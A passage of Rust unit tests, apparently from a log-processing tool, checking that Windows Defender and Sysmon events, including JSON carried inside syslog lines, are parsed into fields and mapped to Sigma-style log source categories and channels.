        assert_eq!(registry.get("Details"), Some("x.exe"));
        let defender = decode(cases[6].0);
        assert_eq!(defender.get("ThreatName"), Some("Trojan:Win32/X"));
        assert_eq!(defender.get("Threat_Name"), Some("Trojan:Win32/X"));
        assert_eq!(defender.get("Signature"), Some("Trojan:Win32/X"));
    }

    #[test]
    fn windows_json_inside_syslog() {
        let ctx = zurich_ctx();
        let mut state = crate::decode::syslog::SyslogState::new(&ctx);
        let line = r##"<13>Nov 22 10:01:02 ws-04 Microsoft-Windows-Sysmon[2404]: {"EventTime":"2026-11-22 10:01:02","Hostname":"ws-04.corp","SourceName":"Microsoft-Windows-Sysmon","Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1,"Image":"C:\\Windows\\System32\\whoami.exe"}"##;
        let event = crate::decode::syslog::decode(line, &ctx, &mut state).unwrap();
        let event = in_syslog(event, &ctx);
        assert_eq!(event.format, Format::Windows);
        assert_eq!(event.get("host"), Some("ws-04"));
        assert_eq!(event.get("Computer"), Some("ws-04.corp"));
        assert_eq!(
            event.get("Image"),
            Some("C:\\Windows\\System32\\whoami.exe")
        );
        assert_eq!(
            logsource(&event),
            (Some("windows"), Some("sysmon"), Some("process_creation"))
        );
        let plain = "<13>Nov 22 10:01:02 web-01 app[1]: {\"level\":\"info\"}";
        let event = crate::decode::syslog::decode(plain, &ctx, &mut state).unwrap();
        assert_eq!(in_syslog(event, &ctx).format, Format::Syslog);
    }

    #[test]
    fn other_json_is_not_windows() {
        let event = decode(r##"{"EventID":1,"Image":"x"}"##);
        assert_eq!(event.format, Format::Json);
        assert!(event.logsource.product.is_none());
        let mut forced =
            crate::decode::json::decode(r##"{"EventID":1,"Image":"x"}"##, &zurich_ctx()).unwrap();
        assert!(from_json(&mut forced, &zurich_ctx(), true));
        assert_eq!(forced.logsource.product.as_deref(), Some("windows"));
        // Given its service (a source's logsource), the category follows.
        forced.logsource.service = Some(Cow::Borrowed("sysmon"));
        complete(&mut forced);
        assert_eq!(
            forced.logsource.category.as_deref(),
            Some("process_creation")
        );
    }

    #[test]
    fn every_service_has_a_channel_and_names_are_sigmas() {
        assert_eq!(service_of_channel("security"), Some("security"));
        assert_eq!(
            service_of_channel("Microsoft-Windows-Windows Defender/Operational"),
            Some("windefend")
        );
        assert_eq!(
            service_of_channel("Microsoft-Windows-Nothing/Operational"),
            None
        );
        assert!(SERVICES.iter().all(|(_, channels)| !channels.is_empty()));
    }
}
